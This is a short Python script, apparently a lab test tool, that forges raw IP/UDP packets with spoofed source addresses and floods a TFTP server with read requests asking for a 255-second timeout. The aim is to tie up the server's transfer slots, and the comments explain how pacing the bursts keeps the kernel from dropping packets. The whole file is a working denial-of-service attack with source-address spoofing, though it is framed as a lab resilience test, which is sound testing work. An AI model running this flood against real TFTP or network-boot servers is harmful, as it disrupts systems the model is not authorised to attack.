#!/usr/bin/env python3
"""Sends TFTP read requests with spoofed source addresses (lab use only: run it inside a client
namespace of the lab; nothing answers the spoofed addresses, so every transfer it starts waits
for ACKs that never come).

usage: tftp-flood.py SERVER_IP NET COUNT FILE   -- COUNT RRQs from NET.2..NET.250, each asking
                                                   for timeout 255; prints "sent=N"
"""
import random, socket, struct, sys, time

server, net, count, name = sys.argv[1], sys.argv[2], min(int(sys.argv[3]), 5000), sys.argv[4]
rnd = random.Random(11)
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)  # IP_HDRINCL implied
payload = b"\x00\x01" + name.encode() + b"\x00octet\x00timeout\x00255\x00blksize\x001468\x00"
sent = 0
for i in range(count):
    src = "%s.%d" % (net, 2 + i % 249)
    sport = 20000 + i
    udp = struct.pack("!HHHH", sport, 69, 8 + len(payload), 0) + payload  # UDP checksum 0: none
    # Version/IHL, TOS, total length, id, flags/fragment, TTL, protocol UDP, checksum (kernel).
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), i & 0xffff, 0, 64, 17, 0,
                     socket.inet_aton(src), socket.inet_aton(server))
    s.sendto(ip + udp, (server, 0))
    sent += 1
    # Bursts of 50 then 20 ms: the attack is on transfer slots, not on the server's socket
    # buffer (a 600-packet burst overflows the default 208 KiB receive buffer on a slow machine,
    # and what the kernel drops never reaches pxelator).
    if sent % 50 == 0:
        time.sleep(0.02)
print("sent=%d" % sent)
